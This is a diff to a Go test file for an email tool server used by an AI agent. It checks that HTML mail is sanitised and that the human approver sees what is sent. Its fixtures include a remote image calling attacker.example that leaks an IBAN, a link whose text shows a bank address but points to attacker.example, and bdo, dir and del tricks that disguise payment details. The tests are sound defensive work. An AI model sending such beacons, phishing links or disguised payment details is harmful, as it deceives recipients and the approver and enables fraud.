@@ -1,6 +1,8 @@
 package mcpserver
 
 import (
+	"io"
+	"mime/quotedprintable"
 	"regexp"
 	"strings"
 	"testing"
@@ -97,8 +99,12 @@ func TestEverySenderFieldFenced(t *testing.T) {
 		if e.Set != config.ToolsEmail {
 			continue
 		}
-		if _, ok := senderTextTools[e.Name]; !ok {
+		sender, ok := senderTextTools[e.Name]
+		if !ok {
 			t.Errorf("email tool %s is not classified in senderTextTools: say whether its answer can carry sender text (and walk it below if so)", e.Name)
+		}
+		if ok && sender != e.Reach.SenderText {
+			t.Errorf("email tool %s: its inventory row says SenderText=%v, senderTextTools says %v", e.Name, e.Reach.SenderText, sender)
 		}
 	}
 	walked := map[string]bool{}
@@ -177,4 +183,55 @@ func TestEverySenderFieldFenced(t *testing.T) {
 			t.Errorf("%s is classified as answering with sender text but the walk never calls it", name)
 		}
 	}
+}
+
+// TestHTMLApproverSeesWhatIsSent (item 2): an HTML body with a remote
+// image is refused before any request is written; without it, a bdo block,
+// a dir attribute and struck text leave as plain text in reading order,
+// and the request file and the agent's answer say the HTML was written by
+// the agent, list every link and flag the one whose text is another
+// address. The approval binds the HTML that is sent.
+func TestHTMLApproverSeesWhatIsSent(t *testing.T) {
+	e := newEmailEnv(t, false, nil)
+	withImage := map[string]any{"to": "alice@example.com", "subject": "Invoice", "body_format": "html",
+		"body": `<p>Please pay.</p><img src="https://attacker.example/p.png?d=IBAN-DE89">`}
+	text, isErr := callTool(t, e.cs, "send_email", withImage)
+	if !isErr || !strings.HasPrefix(text, "Error: Invalid body: the HTML has an <img> https://attacker.example/p.png?d=IBAN-DE89") || len(pendingNames(t, e)) != 0 {
+		t.Fatalf("remote image: (isError=%v) %q, %d request files", isErr, text, len(pendingNames(t, e)))
+	}
+	md := map[string]any{"to": "alice@example.com", "subject": "Invoice", "body_format": "markdown",
+		"body": "Please pay.\n\n![logo](https://attacker.example/p.png?d=IBAN-DE89)"}
+	if text, isErr := callTool(t, e.cs, "send_email", md); !isErr || !strings.Contains(text, "the HTML has an <img>") {
+		t.Fatalf("markdown image: (isError=%v) %q", isErr, text)
+	}
+
+	args := map[string]any{"to": "alice@example.com", "subject": "Invoice", "body_format": "html",
+		"body": `<p dir="rtl">IBAN: <bdo dir="rtl">DE89 3704 0044 0532 0130 00</bdo></p>` +
+			`<p>Amount: <del>100</del> 900 EUR</p>` +
+			`<p>Log in at <a href="https://attacker.example/login">https://bank.example/login</a> or read <a href="https://docs.example/terms">the terms</a>.</p>`}
+	text, file := request(t, e, "send_email", args)
+	const misleading = `https://attacker.example/login (text "https://bank.example/login") MISLEADING: the text shows another address than the link goes to`
+	mustContain(t, "answer", text, "written in HTML by the agent", "converted to text for reading",
+		"Links in the HTML part (2;", "- "+misleading, `- https://docs.example/terms (text "the terms")`)
+	if strings.Contains(text, "rendered from this text") {
+		t.Fatalf("the answer says the HTML was rendered from the text: %q", text)
+	}
+	body := readVault(t, e, "Pending_Approval", file)
+	mustContain(t, "request file", body, "html_from: html\n", "html_links:\n",
+		"written in HTML by the agent", misleading, `A link in the HTML part shows \"https://bank.example/login\" but goes to \"https://attacker.example/login\".`,
+		"IBAN: DE89 3704 0044 0532 0130 00")
+
+	approveAndResend(t, e, "send_email", file, args)
+	raw, _ := e.gm.RawMessage(e.gm.Sent()[0].Id)
+	qp, err := io.ReadAll(quotedprintable.NewReader(strings.NewReader(string(raw))))
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := string(qp)
+	for _, bad := range []string{"<bdo", "dir=", "<del", "<img", "attacker.example/p.png"} {
+		if strings.Contains(s, bad) {
+			t.Errorf("sent HTML holds %q:\n%s", bad, s)
+		}
+	}
+	mustContain(t, "sent message", s, "DE89 3704 0044 0532 0130 00", `href="https://attacker.example/login"`)
 }
